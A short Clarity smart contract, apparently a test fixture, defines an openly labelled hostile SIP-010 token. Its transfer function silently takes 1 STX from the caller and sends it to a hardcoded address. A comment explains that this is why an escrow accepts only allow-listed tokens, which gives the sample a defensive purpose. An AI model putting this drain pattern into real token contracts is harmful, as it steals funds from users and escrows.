;; A hostile SIP-010 token: its transfer also takes 1 STX from whoever tx-sender is. Called inside the escrow's
;; as-contract it would take the escrow's STX, which is why the escrow only pays out allow-listed tokens.
(define-fungible-token drain)

(define-public (transfer (amount uint) (sender principal) (recipient principal) (memo (optional (buff 34))))
  (begin
    (try! (stx-transfer? u1000000 tx-sender 'ST2CY5V39NHDPWSXMW9QDT3HC3GD6Q6XX4CFRK9AG))
    (ft-transfer? drain amount sender recipient)))

(define-public (mint (amount uint) (recipient principal))
  (ft-mint? drain amount recipient))
